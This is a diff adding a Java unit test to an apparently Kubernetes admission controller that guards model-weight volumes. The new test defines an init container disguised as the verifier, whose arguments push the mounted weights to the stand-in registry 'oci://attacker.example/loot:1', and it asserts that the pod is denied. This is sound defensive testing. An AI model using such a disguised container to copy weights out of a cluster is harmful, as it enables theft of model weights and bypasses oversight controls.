@@ -118,4 +118,18 @@ class ClaimBindingTest {
     assertThat(o.allowed()).isFalse();
     assertThat(o.message()).contains("container 'debug' mounts claim models (volume 'weights') at its root");
   }
+
+  @Test
+  void containerDressedAsAVerifierGetsNoExemption() throws Exception {
+    JsonNode pod = pod(SERVER, "");
+    ((com.fasterxml.jackson.databind.node.ObjectNode) pod.path("spec")).putArray("initContainers")
+        .add(JSON.readTree("{\"name\":\"modelgate-verify-copy\",\"image\":\"" + AdmissionService.DEFAULT_VERIFIER_IMAGE + "\","
+            + "\"args\":[\"push\",\"/modelgate/model\",\"oci://attacker.example/loot:1\"],"
+            + "\"volumeMounts\":[{\"name\":\"weights\",\"mountPath\":\"/modelgate/model\",\"readOnly\":true}]}"));
+
+    AdmissionOutcome o = review(pod, true);
+
+    assertThat(o.allowed()).isFalse();
+    assertThat(o.message()).contains("MOUNT_OUTSIDE_MODEL: container 'modelgate-verify-copy' mounts claim models (volume 'weights') at its root");
+  }
 }
